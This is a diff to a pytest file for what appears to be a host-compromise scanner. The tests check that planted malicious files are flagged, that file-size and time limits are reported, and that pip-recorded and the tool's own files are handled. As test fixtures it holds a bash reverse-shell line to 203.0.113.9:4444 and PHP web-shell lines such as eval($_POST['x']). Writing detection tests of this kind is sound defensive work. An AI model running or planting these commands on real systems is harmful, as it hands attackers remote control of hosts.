@@ -1,6 +1,7 @@
 """The contents of candidates: hits become records and claims, and nothing unread is silent."""
 
 import os
+from base64 import urlsafe_b64encode
 from dataclasses import replace
 from hashlib import sha256
 from pathlib import Path
@@ -10,17 +11,20 @@ import pytest
 from hemostat.detect.content.scanner import Hit
 from hemostat.detect.content.yara_rules import YaraText
 from hemostat.detect.rulebook import Rulebook
+from hemostat.examine.baseline import open_baseline
 from hemostat.examine.examination import examine
+from hemostat.examine.own_program import FOLDER
 from hemostat.examine.steps import content as module
 from hemostat.examine.steps.content import FILES, LIMITS, RULES, scan_content
 from hemostat.examine.work import Settings, Work, begin
 from hemostat.model.candidate import Candidate
 from hemostat.model.coverage import Outcome
+from hemostat.model.level import Level
 from hemostat.model.path import HostPath
 from hemostat.model.records import ContentMatch, EmbeddedStrings, FileFact, Process, Provenance
 from hemostat.trees.folder import FolderTree
 from made_host import make_host
-from made_roots import put
+from made_roots import install_dpkg, put
 
 SHELL = b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"
 NEEDLE = YaraText("a.yar", 'rule needle { strings: $a = "needle-7" condition: $a }')
@@ -92,10 +96,28 @@ def test_of_a_large_file_the_head_is_read_and_said(
     ]
 
 
+def test_a_script_that_meets_a_limit_of_its_scanner_is_named_and_what_was_seen_holds(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(module, "MOST_UNFINISHED", 1)
+    filler = b"$a = 1;\n" * 60_000
+    put(tmp_path, "/srv/a.php", b"<?php eval($_POST['x']);\n" + filler)
+    put(tmp_path, "/srv/b.php", b"<?php $a = $_POST['x']; if ($b) { eval('1'); }\n" + filler)
+    put(tmp_path, "/srv/c.php", b"<?php $a = 1;" + filler)
+    work = work_on(tmp_path, "/srv/a.php", "/srv/b.php", "/srv/c.php")
+    scan_content(work)
+    assert [rule.name for rule, _ in work.claims] == ["linux.content.php-runs-request"]
+    (first, reason), (rest, count) = said(work, LIMITS)
+    assert (first, rest) == (Outcome.TOO_LARGE, Outcome.TOO_LARGE)
+    assert "more than 150000 steps" in reason
+    assert count == "1 more files were followed in part only"
+    assert Outcome.FAILED not in [outcome for outcome, _ in said(work, FILES)]
+
+
 def test_when_the_time_is_up_the_rest_is_counted(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr(module, "BUDGET_SECONDS", -1.0)
+    monkeypatch.setattr(Work, "share", lambda _self, _step: -1.0)
     paths = [f"/opt/{n}" for n in range(200)]
     for path in paths:
         put(tmp_path, path, SHELL)
@@ -177,3 +199,43 @@ def test_programs_that_only_memory_had_are_said_where_nothing_runs(tmp_path: Pat
     scan_content(work)
     ((outcome, reason),) = said(work, LIMITS)
     assert (outcome, reason[:2]) == (Outcome.NOT_COLLECTED, "1 ")
+
+
+RECORD_OF_U = (
+    "acme/u.py,sha256="
+    + urlsafe_b64encode(sha256(SHELL).digest()).decode().rstrip("=")
+    + f",{len(SHELL)}\n"
+)
+
+
+@pytest.mark.requirement("A3.7", "B5.1")
+def test_what_pip_recorded_so_is_low_unless_it_runs_or_was_altered(tmp_path: Path) -> None:
+    site = "/opt/venv/lib/python3.11/site-packages"
+    install_dpkg(tmp_path, "coreutils", {"/usr/bin/true": b"x"})
+    for name in ("u", "v"):
+        put(tmp_path, f"{site}/acme/{name}.py", SHELL)
+    put(tmp_path, f"{site}/acme-1.dist-info/RECORD", RECORD_OF_U.encode())
+    work = work_on(tmp_path, f"{site}/acme/u.py", f"{site}/acme/v.py")
+    work.base = open_baseline(work.tree)
+    asked = [*work.candidates]
+    for reasons, levels in (({"unowned"}, {Level.LOW, None}), ({"starts"}, {None})):
+        work.claims.clear()
+        work.candidates = [replace(each, reasons=frozenset(reasons)) for each in asked]
+        scan_content(work)
+        assert {claim.level for _, claim in work.claims} == levels
+
+
+@pytest.mark.requirement("B5.1")
+def test_our_own_files_are_left_out_of_a_running_host_and_said(tmp_path: Path) -> None:
+    put(tmp_path, f"{FOLDER}/detect/u.sh", SHELL)
+    work = work_on(tmp_path, f"{FOLDER}/detect/u.sh")
+    asked = [*work.candidates]
+    scan_content(work)
+    assert len(work.claims) == 1
+    work.claims.clear()
+    work.candidates = asked
+    work.info = replace(work.info, is_running=True)
+    scan_content(work)
+    assert work.claims == []
+    ((outcome, reason),) = said(work, LIMITS)
+    assert (outcome, reason[:7]) == (Outcome.NOT_COLLECTED, "1 files")
